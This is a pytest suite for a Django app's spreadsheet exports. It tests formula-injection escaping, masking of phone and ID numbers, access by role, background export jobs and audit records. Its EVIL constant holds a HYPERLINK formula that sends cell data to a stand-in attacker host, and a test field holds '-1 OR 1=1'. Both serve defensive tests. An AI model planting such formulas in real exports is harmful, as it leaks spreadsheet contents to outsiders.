import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEvent
from conftest import _id
from jobs.exports import SPECS, all_specs
from jobs.models import Job, JobKind, JobStatus
from jobs.workbooks import XLSX_CONTENT_TYPE, escape_cell
from people.actions import MemberData, save_member

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize(
    "raw,expected",
    [
        ("=1+1", "'=1+1"),
        ("+86", "'+86"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_escape_cell(raw, expected):
    assert escape_cell(raw) == expected


def _sheet(response):
    assert response.status_code == 200, response
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(
        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    ).active


def _values(sheet):
    return [[c.value for c in r] for r in sheet.iter_rows()]


def test_member_export_is_masked_escaped_and_audited(cast, client):
    p = cast.places
    save_member(
        acting_user=None,
        data=MemberData(
            name=EVIL[:32],
            id_number=_id(300),
            phone="13812345678",
            party_org=p.org_unit_a,
            unit=p.unit_a,
            residence_area=p.a1,
            skills="-1 OR 1=1",
        ),
    )
    cast.login(client, "street")
    sheet = _sheet(client.get(reverse("jobs:export_start", args=["members"])))
    rows = _values(sheet)
    col = {c.accessor: i for i, c in enumerate(SPECS["members"].columns)}
    assert sheet.freeze_panes == "A2" and sheet[1][0].font.b
    assert sheet.title == str(SPECS["members"].title)
    flat = [str(v) for r in rows for v in r]
    assert "138****5678" in flat and not any("13812345678" in v for v in flat)
    assert not any(_id(300) in v for v in flat) and "350802********" + _id(300)[-4:] in flat
    evil_row = next(r for r in rows if str(r[0]).startswith("'="))
    assert evil_row[0] == "'" + EVIL[:32]
    assert evil_row[col["skills"]] == "'-1 OR 1=1"
    evil_cell = next(c for c in sheet.iter_rows(min_row=2) if str(c[0].value).startswith("'="))[0]
    assert evil_cell.data_type == "s"  # text, not a formula
    assert "birth_date" not in col  # beside the masked ID it would give the hidden digits away
    names = {r[0] for r in rows[1:]}
    assert {"张三丰", "李四", "赵六", "钱七"} <= names and "王五" not in names  # street A's scope only
    event = AuditEvent.objects.get(action="export.members")
    assert event.actor == cast.street and event.detail["rows"] == len(rows) - 1 and event.detail["inline"]


def test_export_uses_the_list_filters(cast, client):
    cast.login(client, "street")
    sheet = _sheet(client.get(reverse("jobs:export_start", args=["members"]), {"q": "张三丰", "page": "2"}))
    assert [r[0] for r in _values(sheet)[1:]] == ["张三丰"]
    assert AuditEvent.objects.get(action="export.members").detail["filters"] == {"q": "张三丰"}


def test_unit_admin_exports_only_their_members(cast, client):
    cast.login(client, "unit2")
    names = {r[0] for r in _values(_sheet(client.get(reverse("jobs:export_start", args=["members"]))))[1:]}
    assert names == {"王五", "赵六"}


@pytest.mark.parametrize(
    "who,name,status",
    [
        ("resident", "members", 403),
        ("unit", "residents", 403),
        ("member", "units", 403),
        ("dept", "applicants", 403),
        ("grid", "units", 403),
        ("nobody", "areas", 403),
        ("street", "nonsense", 404),
        ("admin", "nonsense", 404),
    ],
)
def test_export_roles(cast, client, who, name, status):
    cast.login(client, who)
    assert client.get(reverse("jobs:export_start", args=[name])).status_code == status


def test_export_needs_sign_in(cast, client):
    response = client.get(reverse("jobs:export_start", args=["members"]))
    assert response.status_code == 302 and reverse("accounts:login") in response.url


@pytest.mark.parametrize("name", sorted(SPECS))
def test_every_list_exports_for_the_admin(cast, client, name, django_assert_max_num_queries):
    cast.login(client, "admin")
    with django_assert_max_num_queries(12):
        sheet = _sheet(client.get(reverse("jobs:export_start", args=[name])))
    rows = _values(sheet)
    assert rows[0] == [str(c.header) for c in SPECS[name].columns]
    expected = SPECS[name].queryset_for(cast.admin).count()
    assert len(rows) - 1 == expected


def test_large_export_runs_as_a_job_with_a_download(cast, client, settings, run_on_commit):
    settings.EXPORT_INLINE_MAX_ROWS = 2
    cast.login(client, "street")
    response = run_on_commit(
        client.get, reverse("jobs:export_start", args=["members"]), {"in_service": "true"}
    )
    job = Job.objects.get(kind=JobKind.EXPORT)
    assert response.status_code == 302 and response.url == reverse("jobs:job_detail", args=[job.public_id])
    assert job.status == JobStatus.SUCCEEDED and job.result_file and job.percent == 100
    assert job.summary["rows"] == 3 and job.done == 3  # 张三丰, 李四, 赵六 (钱七 is retired)
    page = client.get(reverse("jobs:job_detail", args=[job.public_id]))
    assert reverse("jobs:job_download", args=[job.public_id]).encode() in page.content
    download = client.get(reverse("jobs:job_download", args=[job.public_id]))
    rows = _values(_sheet(download))
    assert len(rows) == 4 and not any("13800000001" in str(v) for r in rows for v in r)
    assert ".xlsx" in download["Content-Disposition"]
    event = AuditEvent.objects.get(action="export.members")
    assert event.detail == {"rows": 3, "filters": {"in_service": "true"}, "inline": False, "format": "xlsx"}
    assert AuditEvent.objects.filter(action="job.download").count() == 1
    for outsider in ("street2", "unit2", "unit"):
        cast.login(client, outsider)
        assert client.get(reverse("jobs:job_download", args=[job.public_id])).status_code == 404
        assert client.get(reverse("jobs:job_detail", args=[job.public_id])).status_code == 404


def test_failed_export_can_be_retried(cast, client, settings, run_on_commit, monkeypatch):
    from jobs.exports import ExportSpec

    settings.EXPORT_INLINE_MAX_ROWS = 0
    real = ExportSpec.export

    def broken(self, out, queryset, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(ExportSpec, "export", broken)
    cast.login(client, "street")
    run_on_commit(client.get, reverse("jobs:export_start", args=["units"]))
    job = Job.objects.get(kind=JobKind.EXPORT)
    assert job.status == JobStatus.FAILED and "disk full" in job.summary["error"]
    assert client.get(reverse("jobs:job_download", args=[job.public_id])).status_code == 404
    monkeypatch.setattr(ExportSpec, "export", real)
    cast.login(client, "street2")
    assert client.post(reverse("jobs:job_retry", args=[job.public_id])).status_code == 404
    cast.login(client, "street")
    run_on_commit(client.post, reverse("jobs:job_retry", args=[job.public_id]))
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED and job.attempts == 2 and job.result_file


@pytest.mark.parametrize("name", sorted(all_specs()))
def test_background_exports_read_the_same_rows_in_batches(cast, name):
    """A background export reads a batch at a time (no cursor left open while it writes its
    progress); it must give exactly the rows, in the order, that the list itself gives."""
    from jobs.export_values import objects_in_batches

    queryset = all_specs()[name].queryset_for(cast.admin)
    assert list(objects_in_batches(queryset, size=2)) == list(queryset)
